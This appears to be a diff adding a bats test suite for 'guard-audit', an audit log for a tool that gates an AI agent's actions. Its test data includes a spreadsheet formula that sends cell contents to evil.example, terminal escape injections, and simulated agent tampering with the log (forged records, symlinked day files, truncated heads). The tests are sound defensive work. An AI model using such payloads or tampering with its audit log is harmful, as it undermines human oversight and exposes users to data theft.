@@ -1,0 +1,200 @@
+#!/usr/bin/env bats
+# guard-audit's trust features: checked input, safe output, reads that
+# verify, tampering named for what it is, durability.
+
+load helper
+
+setup() {
+	setup_guard
+	LOG=$PROJ/.ai/audit
+}
+
+day() { date -u +%Y-%m-%d; }
+logfile() { echo "$LOG/$(day).jsonl"; }
+fill() { for i in $(seq "$1"); do guard-audit log --fsync never test.event n="$i" >/dev/null; done; }
+
+# ---------------------------------------------------------------- filters and event names
+
+@test "--risk and --decision take only the schema's values, with a did-you-mean" {
+	fill 1
+	run guard-audit query --risk extreme
+	[ "$status" -eq 2 ]
+	[[ "$output" == *"--risk 'extreme' is not a risk level (low, medium, high, critical)"* ]]
+	run guard-audit query --risk hihg
+	[ "$status" -eq 2 ]
+	[[ "$output" == *"did you mean 'high'?"* ]]
+	run guard-audit stats --decision maybe
+	[ "$status" -eq 2 ]
+	[[ "$output" == *"--decision 'maybe' is not a decision effect (allow, ask, deny)"* ]]
+	run guard-audit export --csv --decision alow
+	[ "$status" -eq 2 ]
+	[[ "$output" == *"did you mean 'allow'?"* ]]
+	# other spellings of a real value are not it: the log holds lower case only
+	for v in HIGH 'high ' '' 'high"' '>=high'; do
+		run guard-audit query --risk "$v"
+		echo "'$v' -> $status"; [ "$status" -eq 2 ]
+	done
+	run guard-audit query --risk high --decision deny
+	[ "$status" -eq 0 ]
+}
+
+@test "event names are checked on the way in and in filters" {
+	run guard-audit log 'bad event'
+	[ "$status" -eq 2 ]
+	[[ "$output" == *"event name 'bad event': byte 4 (0x20)"* ]]
+	[ ! -e "$(logfile)" ]
+	long=$(printf 'e%.0s' $(seq 65))
+	run guard-audit log "$long"
+	[ "$status" -eq 2 ]
+	[[ "$output" == *"an event name has 1 to 64"* ]]
+	# the agent's spellings through append: a control byte, a leading dot, JSON escapes
+	run guard-audit append <<<$'{"event":"ok.one"}\n{"event":"x\\u001b[2J"}\n{"event":".hidden"}\n{"event":"a/b"}\n{"event":"ok.two"}'
+	[ "$status" -eq 2 ]
+	[[ "$output" == *"stdin:2: event name 'x': byte 2 (0x1b)"* ]]
+	[[ "$output" == *"stdin:3:"* && "$output" == *"stdin:4:"* ]]
+	[ "$(jq -r .event "$(logfile)" | tr '\n' ' ')" = "ok.one ok.two " ]
+	run guard-audit query --event 'bad event'
+	[ "$status" -eq 2 ]
+	[[ "$output" == *"--event: event name 'bad event'"* ]]
+	run --separate-stderr guard-audit query --event decison
+	[ "$status" -eq 0 ]
+	[[ "$stderr" == *"warning: --event 'decison' is no event guard writes, did you mean 'decision'?"* ]]
+	run --separate-stderr guard-audit query --event ok.one
+	[ "$status" -eq 0 ]
+	[ -z "$stderr" ]
+	[ "${#lines[@]}" -eq 1 ]
+}
+
+# ---------------------------------------------------------------- safe output
+
+@test "CSV export neutralises cells a spreadsheet would run as formulas" {
+	guard-audit log x 'summary==HYPERLINK("http://evil.example/?"&A1,"click")' >/dev/null
+	guard-audit log x summary=+1+2 session=@SUM >/dev/null
+	guard-audit log x summary=-2+3 actor==cmd >/dev/null
+	guard-audit log x "summary=$(printf '\tTAB')" >/dev/null
+	guard-audit log x "summary=$(printf '\rCR')" >/dev/null
+	guard-audit log x summary=plain,text >/dev/null
+	guard-audit export --csv >"$BATS_TEST_TMPDIR/out.csv"
+	python3 - "$BATS_TEST_TMPDIR/out.csv" <<'PY'
+import csv, sys
+rows = list(csv.DictReader(open(sys.argv[1], newline='')))
+assert len(rows) == 6, rows
+want = ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'+1+2", "'-2+3", "'\tTAB", "'\rCR", "plain,text"]
+got = [r["summary"] for r in rows]
+assert got == want, got
+assert rows[1]["session"] == "'@SUM", rows[1]
+assert rows[2]["actor"] == "'=cmd", rows[2]
+# no cell of any row begins with a formula character
+for r in rows:
+    for k, v in r.items():
+        assert not v or v[0] not in "=+-@\t\r", (k, v)
+# numbers stay numbers
+assert [r["seq"] for r in rows] == ["1", "2", "3", "4", "5", "6"]
+PY
+}
+
+@test "the table shows no control byte of a record" {
+	guard-audit log x "summary=$(printf 'a\033]0;pwned\007b\033[2Jc')" tool="$(printf 'T\033[31m')" >/dev/null
+	run guard-audit query --table
+	[ "$status" -eq 0 ]
+	[[ "$output" != *$'\033'* && "$output" != *$'\007'* ]]
+	[[ "$output" == *'a?]0;pwned?b?[2Jc'* ]]
+	[[ "$output" == *'T?[31m'* ]]
+	# JSONL keeps the record as it is (JSON escapes the bytes)
+	run guard-audit query --json
+	[[ "$output" == *'\u001b]0;pwned'* ]]
+}
+
+# ---------------------------------------------------------------- reading verifies
+
+@test "query, stats and export warn naming the first broken record, and still read" {
+	fill 3
+	sed -i '2s/"n":"2"/"n":"9"/' "$(logfile)"
+	for verb in query stats 'export --json' 'export --csv'; do
+		run --separate-stderr guard-audit $verb
+		echo "$verb: $status: $stderr"
+		[ "$status" -eq 0 ]
+		[[ "$stderr" == *"warning: the log does not verify: $(logfile):2: seq 2: hash mismatch"* ]]
+		[ -n "$output" ]
+	done
+	run --separate-stderr guard-audit query
+	[ "${#lines[@]}" -eq 3 ]
+	run --separate-stderr guard-audit query --no-verify
+	[ -z "$stderr" ]
+	# an intact log: no warning
+	sed -i '2s/"n":"9"/"n":"2"/' "$(logfile)"
+	run --separate-stderr guard-audit query
+	[ -z "$stderr" ]
+}
+
+@test "a forged tail under the watermark is named by query too, not only by verify" {
+	guard-audit log a >/dev/null
+	guard-audit log --fsync always b >/dev/null
+	# the agent cuts the synced record and appends a rechained forgery in its place
+	sed -i '$d' "$(logfile)"
+	guard-audit log --fsync never forged >/dev/null
+	run --separate-stderr guard-audit query --event forged
+	[ "$status" -eq 0 ]
+	[[ "$stderr" == *"warning: the log does not verify:"*"seq 2"* ]]
+}
+
+@test "a symbolic link for a day file is tampering for readers and writers (exit 1)" {
+	fill 2
+	mv "$(logfile)" "$BATS_TEST_TMPDIR/elsewhere.jsonl"
+	ln -s "$BATS_TEST_TMPDIR/elsewhere.jsonl" "$(logfile)"
+	for verb in query stats 'export --csv'; do
+		run guard-audit $verb
+		echo "$verb: $status"; [ "$status" -eq 1 ]
+		[[ "$output" == *"is a symbolic link, not a day file the log wrote: tampering"* ]]
+	done
+	run guard-audit log x
+	[ "$status" -eq 1 ]
+	[[ "$output" == *"$(logfile)' is a symbolic link"*tampering* ]]
+	# the hook denies rather than write through the link
+	run --separate-stderr guard hook claude <<<"$(bash_payload 'ls')"
+	[ "$(decision_of)" = deny ]
+	[[ "$output" == *"is a symbolic link, not a day file the log wrote: tampering"* ]]
+	[ "$(wc -l <"$BATS_TEST_TMPDIR/elsewhere.jsonl")" -eq 2 ]
+}
+
+@test "a cut of the head of a file is named as such; a cut of the tail as a tail" {
+	fill 5
+	guard-audit seal >"$BATS_TEST_TMPDIR/cp.jsonl"
+	cp "$(logfile)" "$BATS_TEST_TMPDIR/whole"
+	sed -i '1,2d' "$(logfile)"
+	run guard-audit verify --checkpoint "$BATS_TEST_TMPDIR/cp.jsonl"
+	[ "$status" -eq 1 ]
+	[[ "$output" == *"$(day).jsonl:1: seq 3: the file starts here, but the checkpoint sealed"*"seq 1..2 were cut from the head of the file"* ]]
+	[[ "$output" != *"tail"* ]]
+	# without a witness the two readings are both named
+	run guard-audit verify
+	[ "$status" -eq 1 ]
+	[[ "$output" == *"seq 1..2 are missing"*"or the head of $(day).jsonl was cut"* ]]
+	cp "$BATS_TEST_TMPDIR/whole" "$(logfile)"
+	sed -i '$d' "$(logfile)"
+	run guard-audit verify --checkpoint "$BATS_TEST_TMPDIR/cp.jsonl"
+	[ "$status" -eq 1 ]
+	[[ "$output" == *"records were cut from the tail"* ]]
+	[[ "$output" != *"head"* ]]
+}
+
+@test "outside a project every verb refuses with the reason and makes nothing, unless GUARD_DIR names one" {
+	fill 1
+	mkdir "$BATS_TEST_TMPDIR/loose"
+	cd "$BATS_TEST_TMPDIR/loose"
+	for verb in verify query stats 'export --csv' tail seal 'prune --before 2000-01-01'; do
+		run guard-audit $verb
+		echo "$verb: $status: $output"
+		[ "$status" -eq 5 ]
+		[[ "$output" == *"no project root (.git or .ai/policy.yaml) above"* ]]
+	done
+	# a .ai/ the agent left in a loose folder is not read as a log
+	mkdir -p .ai/audit && cp "$(ls "$LOG"/*.jsonl | head -1)" .ai/audit/
+	run guard-audit query
+	[ "$status" -eq 5 ]
+	rm -rf .ai
+	GUARD_DIR=$PROJ run guard-audit query
+	[ "$status" -eq 0 ]
+	[ "${#lines[@]}" -eq 1 ]
+	[ ! -e .ai ]
+}
